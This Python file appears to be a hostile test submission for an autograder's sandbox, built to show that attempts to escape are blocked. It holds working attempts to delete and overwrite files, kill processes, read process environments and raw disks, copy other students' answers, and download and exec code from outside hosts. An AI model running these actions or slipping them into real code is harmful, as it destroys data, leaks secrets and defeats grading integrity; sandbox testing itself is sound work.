# Hostile submission for tests/test_hostile.py: reaching outside the runtime (cases 8, 9, 13).
# The test fills in the @@...@@ placeholders (paths it created, a port it listens on, a process
# it owns) before grading. Every theft, if it worked, would turn into points, so a verdict below
# full marks on 7.3/1, 7.3/4 and 7.3/6 proves the door was shut; 7.3/3 is right and must pass,
# with d2l imported, after the submission tried to wreck its surroundings.
# ANSWER example_shape = (2, 2)
# %%
import os
import shutil
import signal
import socket

import torch
from d2l import torch as d2l
from torch.nn import functional as F

REFERENCE = "@@REFERENCE@@"           # the reference solution of this section
OTHER = "@@OTHER@@"                   # another student's submission
OWN = "@@OWN@@"                       # this submission's own source file
DECOYS = @@DECOYS@@                   # files of the project and beside the submission
OUTSIDE = @@OUTSIDE@@                 # places outside the working directory
PORT = @@PORT@@                       # the grader machine's localhost
VICTIM = @@VICTIM@@                   # a process of the grader's user

attempts = {}


def attempt(name, action):
    try:
        attempts[name] = ("worked", action())
    except BaseException as exc:          # noqa: B036 - record, never stop
        attempts[name] = ("denied", f"{type(exc).__name__}: {exc}")


def read(path):
    with open(path) as f:
        return f.read()


def steal(path, name):
    """The value of `name = ...` in another file, if that file can be read."""
    for line in read(path).splitlines():
        if line.startswith(name + " ="):
            return eval(line.split("=", 1)[1])
    raise LookupError(name)


for i, path in enumerate(DECOYS):
    attempt(f"delete {i}", lambda: os.remove(path))
    attempt(f"overwrite {i}", lambda: open(path, "w").write("vandalised"))
for i, path in enumerate(OUTSIDE):
    attempt(f"write outside {i}", lambda: open(path, "w").write("escaped"))
attempt("kill", lambda: os.kill(VICTIM, signal.SIGKILL))
attempt("kill grader", lambda: os.kill(int(os.environ.get("JPY_PARENT_PID", "0")) or VICTIM, signal.SIGTERM))
attempt("list project", lambda: os.listdir(os.path.dirname(REFERENCE)))
attempt("proc environ", lambda: read(f"/proc/{VICTIM}/environ"))
attempt("raw disk", lambda: [open(f"/dev/{d}", "rb").read(512) for d in os.listdir("/dev")
                             if d.startswith(("sd", "vd", "nvme", "xvd"))])
# Empty the working directory, then try the folder the grader exchanges requests through.
for entry in os.listdir("."):
    attempt(f"delete ./{entry}", lambda: shutil.rmtree(entry) if os.path.isdir(entry) else os.remove(entry))
attempt("remove exchange folder", lambda: shutil.rmtree(os.path.join("..", ".d2lgrade")))
attempt("remove working folder", lambda: os.rmdir(os.getcwd()))

# %% 7.3/1
try:
    output_shape = steal(REFERENCE, "output_shape")
except BaseException:
    output_shape = "n_h"
try:
    example_shape = eval(read(OWN).split("ANSWER example_shape =")[1].splitlines()[0])
except BaseException:
    example_shape = (0, 0)

# %% 7.3/3
mirror_mode = "reflect"


def mirror_pad(X, p):
    d2l.reshape(X, X.shape)               # d2l works inside the runtime
    if X.dim() == 2:
        return F.pad(X[None, None], (p, p, p, p), mode="reflect")[0, 0]
    return F.pad(X, (p, p, p, p), mode="reflect")


# %% 7.3/4
try:
    stride_speedup = steal(OTHER, "stride_speedup")
except BaseException:
    stride_speedup = None


# %% 7.3/6
def fetch(host, port):
    with socket.create_connection((host, port), timeout=2) as conn:
        return conn.recv(1 << 16).decode()


for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 80), ("example.com", 80)):
    try:
        exec(fetch(host, port))           # the grader machine serves a correct implementation
        break
    except BaseException as exc:
        attempts[f"connect {host}"] = ("denied", repr(exc))
